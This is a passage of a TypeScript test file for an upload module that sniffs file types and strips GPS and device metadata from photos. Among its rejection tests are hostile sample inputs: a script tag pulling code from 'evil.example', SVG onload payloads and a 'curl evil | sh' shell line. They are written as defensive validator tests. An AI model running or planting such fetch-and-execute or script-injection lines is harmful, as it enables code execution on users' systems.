import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { AttachmentRejected, AttachmentStorageError } from './attachments.errors.ts';
import {
  ATTACHMENT_POLICY_DESCRIPTION,
  checkUploadBatch,
  inspectUpload,
  MAX_FILE_BYTES,
  MAX_FILENAME_CHARS,
  sanitizeFilename,
} from './attachments.policy.ts';
import { sniffType } from './attachments.sniff.ts';
import { LocalFolderStorage, sha256Hex } from './attachments.storage.ts';
import { stripMetadata } from './attachments.strip.ts';

// ── byte-building helpers ─────────────────────────────────────────────────

const enc = new TextEncoder();
type Bytes = Uint8Array;

function cat(...parts: (Bytes | number[] | string)[]): Bytes {
  const arrays = parts.map((p) => (typeof p === 'string' ? enc.encode(p) : p instanceof Uint8Array ? p : Uint8Array.from(p)));
  const out = new Uint8Array(arrays.reduce((n, a) => n + a.length, 0));
  let at = 0;
  for (const a of arrays) {
    out.set(a, at);
    at += a.length;
  }
  return out;
}
const be16 = (n: number) => [(n >> 8) & 0xff, n & 0xff];
const be32 = (n: number) => [(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff];
const le16 = (n: number) => [n & 0xff, (n >> 8) & 0xff];
const le32 = (n: number) => [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff];
const latin1 = (b: Bytes) => Buffer.from(b).toString('latin1');
const contains = (hay: Bytes, needle: Bytes | number[] | string) => Buffer.from(hay).includes(Buffer.from(cat(needle)));

// ── fixtures: EXIF with GPS (big-endian TIFF) ─────────────────────────────

const MAKE = 'HUAWEI-TEST\0'; // 12 bytes
const MODEL = 'SECRET-PHONE-MODEL\0'; // 19 bytes
// 39°54'27.12" N, 116°23'17.34" E as RATIONAL triples: these exact bytes must not survive stripping.
const GPS_LAT = cat(be32(39), be32(1), be32(54), be32(1), be32(2712), be32(100));
const GPS_LON = cat(be32(116), be32(1), be32(23), be32(1), be32(1734), be32(100));

function exifTiff(): Bytes {
  const entry = (tag: number, type: number, count: number, value: number[]) => cat(be16(tag), be16(type), be32(count), value);
  const ifd0 = cat(
    be16(3),
    entry(0x010f, 2, 12, be32(104)), // Make → offset 104
    entry(0x0110, 2, 19, be32(116)), // Model → offset 116
    entry(0x8825, 4, 1, be32(50)), // GPSInfo IFD → offset 50
    be32(0),
  ); // 8 + 42 = 50
  const gps = cat(
    be16(4),
    entry(0x0001, 2, 2, [0x4e, 0, 0, 0]), // GPSLatitudeRef 'N'
    entry(0x0002, 5, 3, be32(136)), // GPSLatitude → 136
    entry(0x0003, 2, 2, [0x45, 0, 0, 0]), // GPSLongitudeRef 'E'
    entry(0x0004, 5, 3, be32(160)), // GPSLongitude → 160
    be32(0),
  ); // 50 + 54 = 104
  const tiff = cat('MM', be16(42), be32(8), ifd0, gps, MAKE, MODEL, [0], GPS_LAT, GPS_LON);
  expect(tiff.length).toBe(184);
  return tiff;
}

const XMP = '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description exif:GPSLatitude="39,54.452N" tiff:Model="SECRET-PHONE-MODEL"/></rdf:RDF></x:xmpmeta>';

// ── fixtures: JPEG ──────────────────────────────────────────────────────────

const seg = (marker: number, payload: Bytes | number[] | string) => {
  const body = cat(payload);
  return cat([0xff, marker], be16(body.length + 2), body);
};

/**
 * A real, decodable 16×8 greyscale baseline JPEG (two blocks, one restart interval each): every block is DC 0 and
 * EOB, coded with one-symbol Huffman tables, so the scan is two bytes separated by RST0.
 */
function jpegParts() {
  const dqt = seg(0xdb, cat([0x00], new Array(64).fill(1)));
  const sof = seg(0xc0, [8, ...be16(8), ...be16(16), 1, 1, 0x11, 0]);
  const dhtDc = seg(0xc4, [0x00, 1, ...new Array(15).fill(0), 0x00]);
  const dhtAc = seg(0xc4, [0x10, 1, ...new Array(15).fill(0), 0x00]);
  const dri = seg(0xdd, be16(1));
  const sos = seg(0xda, [1, 1, 0x00, 0, 63, 0]);
  const scan = Uint8Array.from([0x3f, 0xff, 0xd0, 0x3f]); // "00" + 1-padding, RST0, again
  const eoi = Uint8Array.from([0xff, 0xd9]);
  return { dqt, sof, dhtDc, dhtAc, dri, sos, scan, eoi };
}

function plainJpeg(): Bytes {
  const j = jpegParts();
  return cat([0xff, 0xd8], seg(0xe0, cat('JFIF\0', [1, 1, 0], be16(72), be16(72), [0, 0])), j.dqt, j.sof, j.dhtDc, j.dhtAc, j.dri, j.sos, j.scan, j.eoi);
}

/** The same image carrying everything a phone might add. */
function jpegWithMetadata(): Bytes {
  const j = jpegParts();
  const thumb = new Array(2 * 2 * 3).fill(0x7f);
  return cat(
    [0xff, 0xd8],
    seg(0xe0, cat('JFIF\0', [1, 2, 1], be16(300), be16(300), [2, 2], thumb)), // JFIF with a 2×2 thumbnail
    seg(0xe1, cat('Exif\0\0', exifTiff())),
    seg(0xe1, cat('http://ns.adobe.com/xap/1.0/\0', XMP)),
    seg(0xe2, cat('ICC_PROFILE\0', [1, 1], 'fake profile APPL SECRET-PHONE-MODEL')),
    seg(0xe2, cat('MPF\0', 'II*\0', 'multi-picture index')),
    seg(0xeb, cat('JP', 'jumb c2pa manifest device-signature')),
    seg(0xed, cat('Photoshop 3.0\0', '8BIM IPTC by-line Reporter Name')),
    seg(0xee, cat('Adobe', [0, 100, 0, 0, 0, 0, 1])),
    seg(0xfe, 'Shot at 39.9N 116.4E'),
    [0xff, 0xff], // fill bytes before a marker are legal
    j.dqt,
    j.sof,
    j.dhtDc,
    j.dhtAc,
    j.dri,
    j.sos,
    j.scan,
    j.eoi,
    cat([0xff, 0xd8, 0xff, 0xe1], 'Exif secondary image / SEFT trailer / motion photo'), // after EOI
  );
}

// ── fixtures: PNG ───────────────────────────────────────────────────────────

function pngChunk(type: string, data: Bytes | string): Bytes {
  const body = cat(type, data);
  return cat(be32(body.length - 4), body, be32(crc32(body)));
}
const PNG_SIG = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
const IHDR = () => pngChunk('IHDR', cat(be32(1), be32(1), [8, 0, 0, 0, 0]));
const GAMA = () => pngChunk('gAMA', cat(be32(45455)));
const IDAT = () => pngChunk('IDAT', deflateSync(Uint8Array.from([0, 0x80])));
const IEND = () => pngChunk('IEND', new Uint8Array(0));

function pngWithMetadata(): Bytes {
  return cat(
    PNG_SIG,
    IHDR(),
    pngChunk('iCCP', cat('Phone P3\0', [0], deflateSync(enc.encode('SECRET-PHONE-MODEL profile')))),
    GAMA(),
    pngChunk('tEXt', 'Comment\0Shot at 39.9N 116.4E'),
    pngChunk('eXIf', exifTiff()),
    pngChunk('tIME', Uint8Array.from([...be16(2024), 3, 14, 9, 26, 53])),
    pngChunk('iTXt', cat('XML:com.adobe.xmp\0', [0, 0], '\0\0', XMP)),
    pngChunk('zTXt', cat('Author\0', [0], deflateSync(enc.encode('Reporter Name')))),
    pngChunk('caBX', 'c2pa manifest device-signature'),
    IDAT(),
    IEND(),
    'trailing data after IEND',
  );
}

function pngChunkTypes(b: Bytes): string[] {
  const types: string[] = [];
  for (let p = 8; p + 12 <= b.length; ) {
    const len = Buffer.from(b).readUInt32BE(p);
    types.push(latin1(b.subarray(p + 4, p + 8)));
    p += 12 + len;
    if (types.at(-1) === 'IEND') break;
  }
  return types;
}

// ── fixtures: WebP, GIF, HEIC ───────────────────────────────────────────────

// A real 1×1 lossless WebP (Modernizr's feature-detection image); its VP8L chunk is reused below.
const WEBP_SIMPLE = Buffer.from('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==', 'base64');
const VP8L_CHUNK = WEBP_SIMPLE.subarray(12); // 'VP8L' + size 13 + data + pad

function riffChunk(type: string, data: Bytes | number[] | string): Bytes {
  const body = cat(data);
  return cat(type, le32(body.length), body, body.length & 1 ? [0] : []);
}

function webpWithMetadata(): Bytes {
  const flags = 0x20 | 0x10 | 0x08 | 0x04; // ICC, alpha, EXIF, XMP
  const body = cat(
    'WEBP',
    riffChunk('VP8X', [flags, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
    riffChunk('ICCP', 'fake profile SECRET-PHONE-MODEL'),
    VP8L_CHUNK,
    riffChunk('EXIF', cat(exifTiff(), [0])), // odd length → padded
    riffChunk('XMP ', XMP),
  );
  return cat('RIFF', le32(body.length), body, 'junk after the RIFF');
}

function riffChunkTypes(b: Bytes): string[] {
  const types: string[] = [];
  for (let p = 12; p + 8 <= 8 + Buffer.from(b).readUInt32LE(4); ) {
    const size = Buffer.from(b).readUInt32LE(p + 4);
    types.push(latin1(b.subarray(p, p + 4)));
    p += 8 + size + (size & 1);
  }
  return types;
}

function gifWithMetadata(): Bytes {
  return cat(
    'GIF89a',
    [1, 0, 1, 0, 0x80, 0, 0], // 1×1, global colour table of 2
    [0, 0, 0, 0xff, 0xff, 0xff],
    [0x21, 0xff, 11], 'NETSCAPE2.0', [3, 1, 0, 0, 0], // loop forever
    [0x21, 0xfe, 20], 'Shot at 39.9N 116.4E', [0], // comment
    [0x21, 0xff, 11], 'XMP DataXMP', [XMP.length], XMP, [0], // XMP (simplified sub-blocks)
    [0x21, 0xf9, 4, 1, 0, 0, 0, 0], // graphic control
    [0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 0x01, 0],
    [0x3b],
    'after trailer',
  );
}

const HEIC = cat(be32(24), 'ftyp', 'heic', be32(0), 'mif1', 'heic', be32(8), 'meta', new Uint8Array(64));

// ── fixtures: ZIP (stored), OLE compound files, audio ──────────────────────

function zip(entries: [string, string][]): Bytes {
  const locals: Bytes[] = [];
  const centrals: Bytes[] = [];
  let offset = 0;
  for (const [name, content] of entries) {
    const n = enc.encode(name);
    const data = enc.encode(content);
    const crc = crc32(data);
    const local = cat(le32(0x04034b50), le16(20), le16(0), le16(0), le16(0), le16(0), le32(crc), le32(data.length), le32(data.length), le16(n.length), le16(0), n, data);
    centrals.push(cat(le32(0x02014b50), le16(20), le16(20), le16(0), le16(0), le16(0), le16(0), le32(crc), le32(data.length), le32(data.length), le16(n.length), le16(0), le16(0), le16(0), le16(0), le32(0), le32(offset), n));
    locals.push(local);
    offset += local.length;
  }
  const cd = cat(...centrals);
  return cat(...locals, cd, le32(0x06054b50), le16(0), le16(0), le16(entries.length), le16(entries.length), le32(cd.length), le32(offset), le16(0));
}

const DOCX_ENTRIES: [string, string][] = [
  ['[Content_Types].xml', '<?xml version="1.0"?><Types/>'],
  ['_rels/.rels', '<Relationships/>'],
  ['word/document.xml', '<w:document/>'],
  ['docProps/core.xml', '<cp:coreProperties/>'],
];

interface OleNode {
  name: string;
  type: 1 | 2; // storage, stream
  children?: OleNode[];
}

/** A minimal version-3 compound file: header, one FAT sector, then the directory. Streams are empty. */
function ole(top: OleNode[]): Bytes {
  const flat: { node: OleNode; child: number; right: number }[] = [];
  const add = (nodes: OleNode[]): number => {
    const ids = nodes.map((node) => flat.push({ node, child: 0xffffffff, right: 0xffffffff }) - 1);
    nodes.forEach((node, i) => {
      flat[ids[i]!]!.right = ids[i + 1] ?? 0xffffffff; // siblings as a chain: fine for a parser, not for Word
      if (node.children) flat[ids[i]!]!.child = add(node.children);
    });
    return ids[0] ?? 0xffffffff;
  };
  flat.push({ node: { name: 'Root Entry', type: 1 }, child: 0xffffffff, right: 0xffffffff });
  flat[0]!.child = add(top);
  const dirSectors = Math.ceil(flat.length / 4);
  const header = new Uint8Array(512);
  header.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  header.set(cat(le16(0x3e), le16(3), le16(0xfffe), le16(9), le16(6)), 0x18);
  header.set(cat(le32(1), le32(1), le32(0), le32(4096), le32(0xfffffffe), le32(0), le32(0xfffffffe), le32(0)), 0x2c);
  for (let i = 0; i < 109; i++) header.set(le32(i === 0 ? 0 : 0xffffffff), 0x4c + i * 4);
  const fat = new Uint8Array(512).fill(0xff);
  fat.set(le32(0xfffffffd), 0); // sector 0 is the FAT
  for (let s = 1; s <= dirSectors; s++) fat.set(le32(s === dirSectors ? 0xfffffffe : s + 1), s * 4);
  const dir = new Uint8Array(dirSectors * 512);
  flat.forEach((e, i) => {
    const at = i * 128;
    const name = e.node.name;
    for (let c = 0; c < name.length; c++) dir.set(le16(name.charCodeAt(c)), at + c * 2);
    dir.set(le16((name.length + 1) * 2), at + 0x40);
    dir[at + 0x42] = i === 0 ? 5 : e.node.type;
    dir.set(cat(le32(0xffffffff), le32(e.right), le32(e.child)), at + 0x44);
  });
  return cat(header, fat, dir);
}

function mp3Frames(count: number): Bytes {
  const frame = new Uint8Array(417); // MPEG-1 Layer III, 128 kbit/s, 44.1 kHz, no padding
  frame.set([0xff, 0xfb, 0x90, 0x64]);
  return cat(...new Array<Bytes>(count).fill(frame));
}

const EXE = cat('MZ', [0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0], new Uint8Array(44), le32(0x80), new Uint8Array(64), 'PE\0\0');
const ELF = cat([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], new Uint8Array(56));
const MACHO = cat([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1], new Uint8Array(56));

// ── tools for optional decode checks ────────────────────────────────────────

const scratch = mkdtempSync(join(tmpdir(), 'attachments-test-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

function toolWorks(cmd: string, args: string[], expect: RegExp): boolean {
  try {
    return expect.test(execFileSync(cmd, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }));
  } catch {
    return false;
  }
}
const hasImageMagick = toolWorks('identify', ['-version'], /ImageMagick/);
const hasDwebp = toolWorks('dwebp', ['-version'], /\d+\.\d+/);
/** Test title, with the reason when it is skipped because an optional decoder is missing. */
const decodeTitle = (title: string, available: boolean, tool: string) =>
  available ? title : `${title} — SKIPPED: ${tool} is not installed (apt-get install ${tool === 'dwebp' ? 'webp' : 'imagemagick'})`;

/**
 * ImageMagick's hash of the decoded pixels: equal before and after stripping means the image is untouched.
 * `strict` turns decoder warnings into failures (used for stripped output; the fixtures' fake ICC data warns).
 */
function pixelSignature(bytes: Bytes, ext: string, strict = true): string {
  const file = join(scratch, `${sha256Hex(bytes).slice(0, 12)}.${ext}`);
  writeFileSync(file, bytes);
  const args = [...(strict ? ['-regard-warnings'] : []), '-format', '%w×%h %#', file];
  return execFileSync('identify', args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
}

// ── sniffing ───────────────────────────────────────────────────────────────

describe('sniffType', () => {
  it('recognises images by content', () => {
    expect(sniffType(jpegWithMetadata())).toEqual({ mime: 'image/jpeg', ext: 'jpg', kind: 'image' });
    expect(sniffType(pngWithMetadata())?.mime).toBe('image/png');
    expect(sniffType(gifWithMetadata())?.mime).toBe('image/gif');
    expect(sniffType(webpWithMetadata())?.mime).toBe('image/webp');
    expect(sniffType(WEBP_SIMPLE)?.mime).toBe('image/webp');
    expect(sniffType(HEIC)).toEqual({ mime: 'image/heic', ext: 'heic', kind: 'image' });
    expect(sniffType(cat(be32(20), 'ftyp', 'mif1', be32(0), 'mif1', new Uint8Array(8)))?.mime).toBe('image/heif');
    expect(sniffType(cat(be32(24), 'ftyp', 'avif', be32(0), 'mif1', 'avif', new Uint8Array(8)))).toBeNull();
  });

  it('refuses executables whatever their name', () => {
    for (const exe of [EXE, ELF, MACHO, cat([0xca, 0xfe, 0xba, 0xbe], new Uint8Array(60))]) expect(sniffType(exe)).toBeNull();
    const r = inspectUpload('现场照片.jpg', EXE);
    expect(r).toEqual({ ok: false, reason: 'type_not_allowed', message: '不支持此文件类型 / This file type is not allowed.' });
  });

  it('accepts PDF', () => {
    expect(sniffType(cat('%PDF-1.7\n%\xe2\xe3\n1 0 obj<<>>endobj\n%%EOF'))).toEqual({ mime: 'application/pdf', ext: 'pdf', kind: 'pdf' });
  });

  it('classifies OOXML by the ZIP central directory, and refuses other ZIPs', () => {
    expect(sniffType(zip(DOCX_ENTRIES))).toEqual({
      mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      ext: 'docx',
      kind: 'document',
    });
    expect(sniffType(zip([['[Content_Types].xml', '<Types/>'], ['xl/workbook.xml', '<workbook/>']]))?.ext).toBe('xlsx');
    expect(sniffType(zip([['[Content_Types].xml', '<Types/>'], ['ppt/presentation.xml', '<p/>']]))?.ext).toBe('pptx');
    expect(sniffType(zip([['a.txt', 'hello'], ['b/c.exe', 'MZ']]))).toBeNull(); // plain zip
    expect(sniffType(zip([['word/document.xml', '<w:document/>']]))).toBeNull(); // no [Content_Types].xml
    expect(sniffType(zip([['[Content_Types].xml', '<Types/>'], ['mimetype', 'x']]))).toBeNull(); // no word/xl/ppt
    expect(sniffType(zip([...DOCX_ENTRIES, ['word/vbaProject.bin', 'VBA']]))).toBeNull(); // .docm renamed
    const docx = zip(DOCX_ENTRIES);
    expect(sniffType(docx.subarray(0, docx.length - 10))).toBeNull(); // truncated: no central directory
    expect(sniffType(cat(docx, 'x'))).toBeNull(); // bytes after the end record
  });

  it('classifies legacy Office compound files by their top-level streams', () => {
    expect(sniffType(ole([{ name: 'WordDocument', type: 2 }, { name: '1Table', type: 2 }, { name: '\x05SummaryInformation', type: 2 }]))).toEqual({
      mime: 'application/msword',
      ext: 'doc',
      kind: 'document',
    });
    expect(sniffType(ole([{ name: 'Workbook', type: 2 }]))?.ext).toBe('xls');
    expect(sniffType(ole([{ name: 'PowerPoint Document', type: 2 }, { name: 'Current User', type: 2 }]))?.ext).toBe('ppt');
    // a Word file with an embedded workbook (deeper in the tree) is still a .doc
    const embedded = ole([
      { name: 'WordDocument', type: 2 },
      { name: 'ObjectPool', type: 1, children: [{ name: '_1234', type: 1, children: [{ name: 'Workbook', type: 2 }] }] },
    ]);
    expect(sniffType(embedded)?.ext).toBe('doc');
    expect(sniffType(ole([{ name: 'WordDocument', type: 2 }, { name: 'Macros', type: 1, children: [{ name: 'VBA', type: 1 }] }]))).toBeNull();
    expect(sniffType(ole([{ name: 'WordDocument', type: 2 }, { name: 'ObjectPool', type: 1, children: [{ name: '\x01Ole10Native', type: 2 }] }]))).toBeNull();
    expect(sniffType(ole([{ name: '\u4840\u3b3f\u4577', type: 2 }]))).toBeNull(); // MSI installer-style names
    expect(sniffType(ole([{ name: 'EncryptionInfo', type: 2 }, { name: 'EncryptedPackage', type: 2 }]))).toBeNull();
    const broken = ole([{ name: 'WordDocument', type: 2 }]);
    broken.set(le32(999), 0x30); // directory sector beyond the file
    expect(sniffType(broken)).toBeNull();
  });

  it('recognises audio recordings', () => {
    expect(sniffType(mp3Frames(3))).toEqual({ mime: 'audio/mpeg', ext: 'mp3', kind: 'audio' });
    expect(sniffType(cat('ID3', [3, 0, 0, 0, 0, 0, 10], new Uint8Array(10), mp3Frames(1)))?.mime).toBe('audio/mpeg');
    expect(sniffType(mp3Frames(1))).toBeNull(); // a lone frame header is not enough
    expect(sniffType(cat(be32(28), 'ftyp', 'M4A ', be32(0), 'M4A ', 'mp42', 'isom', be32(8), 'free'))).toEqual({ mime: 'audio/mp4', ext: 'm4a', kind: 'audio' });
    expect(sniffType(cat(be32(24), 'ftyp', 'isom', be32(512), 'isom', 'mp41', be32(8), 'free'))?.mime).toBe('audio/mp4');
    expect(sniffType(cat(be32(20), 'ftyp', 'qt  ', be32(0), 'qt  ', be32(8), 'free'))).toBeNull(); // QuickTime video
    expect(sniffType(cat('RIFF', le32(36), 'WAVE', 'fmt ', le32(16), new Uint8Array(16)))).toEqual({ mime: 'audio/wav', ext: 'wav', kind: 'audio' });
    expect(sniffType(cat('RIFF', le32(36), 'AVI ', new Uint8Array(24)))).toBeNull();
    expect(sniffType(cat('#!AMR\n', [0x3c], new Uint8Array(31)))?.mime).toBe('audio/amr');
    const oggPage = (packet: Bytes | string) => cat('OggS', [0, 2], new Uint8Array(8), le32(1), le32(0), le32(0), [1, cat(packet).length], packet);
    expect(sniffType(oggPage(cat('OpusHead', [1, 1, 0x38, 1, 0x80, 0xbb, 0, 0, 0, 0, 0])))).toEqual({ mime: 'audio/ogg', ext: 'opus', kind: 'audio' });
    expect(sniffType(oggPage(cat([1], 'vorbis', new Uint8Array(23))))?.ext).toBe('ogg');
    expect(sniffType(oggPage(cat([0x80], 'theora', new Uint8Array(35))))).toBeNull(); // Ogg video
    const ebml = (docType: string) => cat([0x1a, 0x45, 0xdf, 0xa3, 0x80 | (7 + docType.length)], [0x42, 0x86, 0x81, 1], [0x42, 0x82, 0x80 | docType.length], docType, [0x18, 0x53, 0x80, 0x67]);
    expect(sniffType(ebml('webm'))).toEqual({ mime: 'audio/webm', ext: 'webm', kind: 'audio' });
    expect(sniffType(ebml('matroska'))).toBeNull();
  });

  it('accepts UTF-8 plain text, including Chinese', () => {
    const text = enc.encode('\uFEFF举报内容：某村干部冒领低保金。\r\n时间：2024年3月，地点：某镇。\tEnglish too.\n');
    expect(sniffType(text)).toEqual({ mime: 'text/plain', ext: 'txt', kind: 'document' });
  });

  it('refuses invalid UTF-8, binary text, markup, scripts and RTF', () => {
    expect(sniffType(Uint8Array.from([0x68, 0x69, 0xc3, 0x28]))).toBeNull(); // invalid UTF-8
    expect(sniffType(Uint8Array.from([0xb5, 0xcd, 0xb1, 0xa3, 0xbe, 0xd9, 0xb1, 0xa8]))).toBeNull(); // "低保举报" in GBK
    expect(sniffType(enc.encode('hello\0world'))).toBeNull(); // NUL
    expect(sniffType(Uint8Array.from([0xff, 0xfe, 0x68, 0x00, 0x69, 0x00]))).toBeNull(); // UTF-16
    expect(sniffType(enc.encode('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'))).toBeNull();
    expect(sniffType(enc.encode('  \n<html><head></head></html>'))).toBeNull();
    expect(sniffType(enc.encode('举报材料见下：\n<script src="https://evil.example/x.js"></script>'))).toBeNull();
    expect(sniffType(enc.encode('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'))).toBeNull();
    expect(sniffType(enc.encode('<svg onload="alert(1)"/>'))).toBeNull();
    expect(sniffType(enc.encode('#!/bin/sh\ncurl evil | sh\n'))).toBeNull();
    expect(sniffType(enc.encode('%!PS-Adobe-3.0\n'))).toBeNull();
    expect(sniffType(enc.encode('{\\rtf1\\ansi{\\object\\objemb{\\objdata 0105}}}'))).toBeNull();
    expect(sniffType(new Uint8Array(0))).toBeNull();
  });

  it('refuses archives and other formats', () => {
    expect(sniffType(cat([0x1f, 0x8b, 8, 0], new Uint8Array(20)))).toBeNull(); // gzip
    expect(sniffType(cat('Rar!\x1a\x07\x00', new Uint8Array(20)))).toBeNull();
    expect(sniffType(cat([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c], new Uint8Array(20)))).toBeNull(); // 7z
    expect(sniffType(cat('BM', new Uint8Array(60)))).toBeNull(); // BMP: not on the list
  });
});

// ── stripping ──────────────────────────────────────────────────────────────

describe('stripMetadata: JPEG', () => {
  const original = jpegWithMetadata();
  const stripped = stripMetadata(original, 'image/jpeg');
  const sosOf = (b: Bytes) => Buffer.from(b).indexOf(Buffer.from([0xff, 0xda]));

  it('removes EXIF (with GPS), XMP, ICC, MPF, C2PA, IPTC, comments, the JFIF thumbnail and trailing data', () => {
    for (const needle of ['Exif', 'http://ns.adobe.com', 'GPS', 'ICC_PROFILE', 'MPF', 'c2pa', 'Photoshop', 'HUAWEI', 'SECRET-PHONE-MODEL', 'Reporter', '39.9N', 'trailer']) {
      expect(contains(original, needle), needle).toBe(true);
      expect(contains(stripped, needle), needle).toBe(false);
    }
    expect(contains(original, GPS_LAT)).toBe(true);
    expect(contains(stripped, GPS_LAT)).toBe(false);
    expect(contains(stripped, GPS_LON)).toBe(false);
    expect([...stripped.subarray(0, 2)]).toEqual([0xff, 0xd8]);
    expect([...stripped.subarray(-2)]).toEqual([0xff, 0xd9]);
    // only JFIF (18 bytes, no thumbnail) and Adobe remain of the APPn segments
    expect(latin1(stripped.subarray(2, 20))).toBe(latin1(cat([0xff, 0xe0, 0, 16], 'JFIF\0', [1, 2, 1], be16(300), be16(300), [0, 0])));
    expect(contains(stripped, 'Adobe')).toBe(true);
  });

  it('keeps everything from SOS to EOI byte-identical, restart markers included', () => {
    const origEoi = Buffer.from(original).indexOf(Buffer.from([0xff, 0xd9]), sosOf(original));
    expect(Buffer.from(stripped.subarray(sosOf(stripped))).equals(Buffer.from(original.subarray(sosOf(original), origEoi + 2)))).toBe(true);
    expect(contains(stripped, [0xff, 0xd0])).toBe(true);
  });

  it('copies stuffed bytes, restart markers and fill bytes in the scan verbatim', () => {
    const j = jpegParts();
    const scan = Uint8Array.from([0x12, 0xff, 0x00, 0x34, 0xff, 0xd0, 0x56, 0xff, 0xd7, 0x78, 0xff, 0xff]);
    const input = cat([0xff, 0xd8], j.sof, j.sos, scan, [0xff, 0xfe, 0, 4, 1, 2], j.dhtAc, j.sos, [0x9a], j.eoi); // COM between two scans
    const out = stripMetadata(input, 'image/jpeg');
    expect(Buffer.from(out).equals(Buffer.from(cat([0xff, 0xd8], j.sof, j.sos, scan, j.dhtAc, j.sos, [0x9a], j.eoi)))).toBe(true);
  });

  it('is idempotent and leaves a clean JPEG unchanged', () => {
    expect(Buffer.from(stripMetadata(stripped, 'image/jpeg')).equals(Buffer.from(stripped))).toBe(true);
    const plain = plainJpeg();
    expect(Buffer.from(stripMetadata(plain, 'image/jpeg')).equals(Buffer.from(plain))).toBe(true);
  });

  it.skipIf(!hasImageMagick)(decodeTitle('still decodes to the same pixels', hasImageMagick, 'identify'), () => {
    expect(pixelSignature(stripped, 'jpg')).toBe(pixelSignature(original, 'jpg', false));
    expect(pixelSignature(stripped, 'jpg')).toMatch(/^16×8 [0-9a-f]{64}$/);
  });

  it('throws AttachmentRejected(corrupt_image) for broken files', () => {
    const j = jpegParts();
    const cases: Bytes[] = [
      Uint8Array.from([0xff, 0xd8]), // nothing after SOI
      cat([0xff, 0xd8], [0xff, 0xe1, 0xff, 0xff], 'Exif'), // segment longer than the file
      cat([0xff, 0xd8], j.sof, j.sos, [0x12, 0x34]), // scan without EOI
      cat([0xff, 0xd8], j.sof, j.eoi), // no scan
      cat([0xff, 0xd8], j.sos, [0x12], j.eoi), // scan before frame
      cat([0xff, 0xd8], [0x00, 0x01]), // no marker
      cat([0xff, 0xd8], [0xff, 0xdb, 0x00, 0x01]), // length < 2
    ];
    for (const c of cases) expect(() => stripMetadata(c, 'image/jpeg')).toThrowError(expect.objectContaining({ name: 'AttachmentRejected', reason: 'corrupt_image' }));
  });
});

describe('stripMetadata: PNG', () => {
  const original = pngWithMetadata();
  const stripped = stripMetadata(original, 'image/png');

  it('drops eXIf, tEXt, iTXt, zTXt, tIME (and iCCP, private chunks), keeps the rest byte-identical', () => {
    expect(pngChunkTypes(original)).toEqual(['IHDR', 'iCCP', 'gAMA', 'tEXt', 'eXIf', 'tIME', 'iTXt', 'zTXt', 'caBX', 'IDAT', 'IEND']);
    expect(pngChunkTypes(stripped)).toEqual(['IHDR', 'gAMA', 'IDAT', 'IEND']);
    expect(Buffer.from(stripped).equals(Buffer.from(cat(PNG_SIG, IHDR(), GAMA(), IDAT(), IEND())))).toBe(true);
    expect(latin1(stripped.subarray(-12))).toBe(latin1(Uint8Array.from([0, 0, 0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82])));
    for (const needle of ['MM', 'SECRET', 'Reporter', '39.9N', 'xmp']) expect(contains(stripped, needle), needle).toBe(false);
    expect(contains(stripped, GPS_LAT)).toBe(false);
  });

  it.skipIf(!hasImageMagick)(decodeTitle('still decodes to the same pixels', hasImageMagick, 'identify'), () => {
    expect(pixelSignature(stripped, 'png')).toBe(pixelSignature(original, 'png', false));
  });

  it('throws corrupt_image for broken files', () => {
    const cases: Bytes[] = [
      cat(PNG_SIG, IHDR()), // no IEND
      cat(PNG_SIG, IHDR(), IEND()), // no IDAT
      cat(PNG_SIG, IDAT(), IEND()), // IHDR not first
      cat(PNG_SIG, IHDR(), [0x7f, 0xff, 0xff, 0xff], 'IDAT', [1, 2, 3]), // length past the end
      cat(PNG_SIG, IHDR(), pngChunk('ABCD', 'x'), IDAT(), IEND()), // unknown critical chunk
      cat(PNG_SIG, IHDR(), pngChunk('a\0cd', 'x'), IDAT(), IEND()), // bad chunk type
    ];
    for (const c of cases) expect(() => stripMetadata(c, 'image/png')).toThrowError(AttachmentRejected);
  });
});

describe('stripMetadata: WebP', () => {
  const original = webpWithMetadata();
  const stripped = stripMetadata(original, 'image/webp');

  it('drops EXIF, XMP and ICCP, clears their VP8X flags and fixes the RIFF size', () => {
    expect(riffChunkTypes(original)).toEqual(['VP8X', 'ICCP', 'VP8L', 'EXIF', 'XMP ']);
    expect(riffChunkTypes(stripped)).toEqual(['VP8X', 'VP8L']);
    expect(Buffer.from(stripped).readUInt32LE(4)).toBe(stripped.length - 8);
    expect(stripped[20]).toBe(0x10); // only the alpha flag is left
    expect(Buffer.from(stripped.subarray(30)).equals(VP8L_CHUNK)).toBe(true);
    for (const needle of ['EXIF', 'XMP', 'SECRET', 'junk']) expect(contains(stripped, needle), needle).toBe(false);
    expect(contains(stripped, GPS_LAT)).toBe(false);
  });

  it('keeps simple (VP8/VP8L) files as they are', () => {
    expect(Buffer.from(stripMetadata(WEBP_SIMPLE, 'image/webp')).equals(WEBP_SIMPLE)).toBe(true);
  });

  it.skipIf(!hasDwebp)(decodeTitle('still decodes', hasDwebp, 'dwebp'), () => {
    const file = join(scratch, 'stripped.webp');
    writeFileSync(file, stripped);
